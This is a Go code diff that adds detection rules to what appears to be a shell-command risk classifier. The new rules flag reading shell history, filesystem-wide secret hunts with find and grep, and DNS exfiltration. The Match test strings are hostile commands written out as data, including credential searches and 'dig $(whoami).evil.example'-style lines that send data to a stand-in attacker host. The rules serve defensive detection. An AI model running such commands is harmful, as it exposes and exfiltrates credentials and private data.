@@ -47,6 +47,37 @@ var dataRules = []Rule{
 		Match:    []string{"cat /etc/shadow", "cp ~/.ssh/id_rsa /tmp/x", "cat ~/.aws/credentials", "cat app/.env"},
 		NotMatch: []string{"ls -l /etc/shadow", "cat ~/.ssh/id_rsa.pub", "echo /etc/shadow"},
 	},
+	{
+		ID: "history-read", Text: "Shows what was typed before. Passwords and keys often stand in it.",
+		Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552.003", Class: "history", Access: "read",
+		Match:    []string{"cat ~/.bash_history", "grep -i pass ~/.mysql_history", "cp ~/.bash_history /tmp/x"},
+		NotMatch: []string{"history", "ls -l ~/.bash_history", "history | grep ssh"},
+	},
+	{
+		ID: "secret-hunt", Text: "Looks for keys and passwords all over the machine.",
+		Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552.001", Programs: "find fd fdfind",
+		Words: `^\w+\s(.*\s)?(/|/home|/root|/Users|/home/\*|~|/mnt|/srv)\s.*(\bid_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx?\b|\.ppk\b|\.jks\b|\.ovpn\b|shadow|credentials|\.htpasswd|_history|` +
+			`wp-config|\.pgpass|\.netrc|\.git-credentials|(?i)passw(or)?d|secret|authorized_keys|\.env\b|\.aws\b|\.kube\b|kubeconfig)`,
+		Match: []string{
+			"find / -name id_rsa", "find / -name '*.pem' -o -name '*.key'", "find /home -name .bash_history", "find / -type f -iname '*password*'",
+			"find /root /home -name '*.kdbx' 2>/dev/null",
+		},
+		NotMatch: []string{"find . -name '*.key'", "find / -name nginx.conf", "find /etc/ssl -name '*.pem'", "find src -name '*password*'", "find / -name '*.keyboard'"},
+	},
+	{
+		ID: "secret-hunt", Text: "Looks for keys and passwords all over the machine.",
+		Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552.001", Programs: "grep egrep rg ag ack zgrep",
+		Words:    `(?i)(passw(or)?d|pwd=|secret|api_?key|AKIA|aws_|private key|token|credential).*\s(/|/home|/root|/etc|/var|/opt|/srv|/var/www|/proc|/Users|/home/\S+|/var/www/\S*)/?(\s|$)`,
+		Match:    []string{"grep -r AKIA /", "grep -rni password /var/www", "rg -i 'api_key' /home", "grep -rE 'BEGIN (RSA )?PRIVATE KEY' /root"},
+		NotMatch: []string{"grep -rn password src", "grep -rn 'password' .", "grep root /etc/group", "grep -i token app.log"},
+	},
+	{
+		ID: "name-carries-data", Text: "Puts the output of a command into a name that is looked up. That sends it out of this machine.",
+		Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1048.003", Programs: "dig nslookup host ping ping6 drill kdig resolvectl getent",
+		Typed:    "^(\\w+)\\s(.*\\s)?\\S*(\\$\\(|`).*(\\)|`)\"?\\.[\\w$]",
+		Match:    []string{"dig $(whoami).evil.example", "nslookup `hostname`.x.example", "ping -c1 $(cat /etc/passwd | base64 | head -c 60).evil.example"},
+		NotMatch: []string{"dig example.com", "dig $name.example.com", "ping $(hostname)", "host \"$h\""},
+	},
 }
 
 // hidingRules are about covering tracks.
